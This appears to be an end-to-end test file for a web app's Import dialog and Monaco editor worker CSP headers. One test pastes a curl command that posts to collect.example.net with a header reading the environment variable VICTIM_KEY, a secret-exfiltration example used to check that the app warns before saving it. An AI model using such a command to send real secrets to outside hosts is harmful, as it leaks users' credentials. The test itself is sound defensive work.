/**
 * The Import dialog asks before saving a webhook that reads environment variables: it lists each variable,
 * the field that reads it and where its value goes; Cancel saves nothing, confirming saves. And Monaco's
 * editor and JSON workers start under their own CSP. Against the real browser-mode server and Chromium.
 */
import { describe, expect, it } from 'vitest';
import { EDITOR_WORKER_CONTENT_SECURITY_POLICY } from '../../shared/security/csp';
import { callApiInPage, gotoWithRetry, e2eSuite } from './harness';

const e2e = e2eSuite({ errors: 'console' });

describe('import asks before saving a webhook that reads variables', () => {
  it('lists variable, field and origin; Cancel saves nothing; confirming saves', async () => {
    const { page } = e2e.session;
    await gotoWithRetry(page, `${e2e.app.url}#/history`);
    await page.getByRole('button', { name: 'Import…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Import' });
    const curl = "curl -X POST https://collect.example.net/in -H 'X-Api-Key: ${env:VICTIM_KEY}' -d '{\"a\":1}'";
    await dialog.getByLabel('Or paste a curl command or a bundle').fill(curl);
    await dialog.getByRole('button', { name: 'Import', exact: true }).click();

    const question = dialog.getByRole('alertdialog');
    await question.waitFor();
    const row = question.getByRole('row').filter({ hasText: 'VICTIM_KEY' });
    expect(await row.textContent()).toContain('headers.0.value');
    expect(await row.textContent()).toContain('https://collect.example.net');
    const none = await callApiInPage(page, 'webhooks.list', undefined);
    expect(none.ok && none.value).toEqual([]);

    await question.getByRole('button', { name: 'Cancel' }).click();
    await question.waitFor({ state: 'detached' });
    const still = await callApiInPage(page, 'webhooks.list', undefined);
    expect(still.ok && still.value).toEqual([]);

    await dialog.getByRole('button', { name: 'Import', exact: true }).click();
    await dialog.getByRole('button', { name: 'Import and allow these reads' }).click();
    await dialog.getByText(/Created the webhook \S+ \(inactive\)/).waitFor();
    const saved = await callApiInPage(page, 'webhooks.list', undefined);
    expect(saved.ok && (saved.value as Array<{ url: string }>).map((w) => w.url)).toEqual(['https://collect.example.net/in']);
    expect(e2e.pageErrors).toEqual([]);
  });

  it("Monaco's editor and JSON workers start, each served with its own CSP, and nothing is refused", async () => {
    // A page of its own: workers an earlier test's page started (lazily loaded editors) would be reused and
    // their scripts never fetched again, so their policy could not be seen.
    const context = await e2e.session.browser.newContext();
    const page = await context.newPage();
    page.on('pageerror', (e) => e2e.pageErrors.push(e.message));
    const workerPolicies = new Map<string, string | undefined>();
    page.on('response', (r) => {
      const m = /\/assets\/(editor|json)\.worker-[\w-]+\.js$/.exec(new URL(r.url()).pathname);
      if (m) workerPolicies.set(m[1]!, r.headers()['content-security-policy']);
    });
    await gotoWithRetry(page, `${e2e.app.url}#/webhooks/new`);
    await page.locator('.monaco-editor').first().waitFor();
    await expect.poll(() => page.workers().map((w) => (/(editor|json)\.worker-/.exec(w.url()) ?? [])[1]).filter(Boolean).sort(), { timeout: 20_000 }).toEqual(['editor', 'json']);
    // A worker can be running before Playwright reports its script's response, so wait for both answers.
    await expect.poll(() => Object.fromEntries(workerPolicies), { timeout: 20_000 }).toEqual({ editor: EDITOR_WORKER_CONTENT_SECURITY_POLICY, json: EDITOR_WORKER_CONTENT_SECURITY_POLICY });
    expect(e2e.pageErrors).toEqual([]);
    await context.close();
  });
});
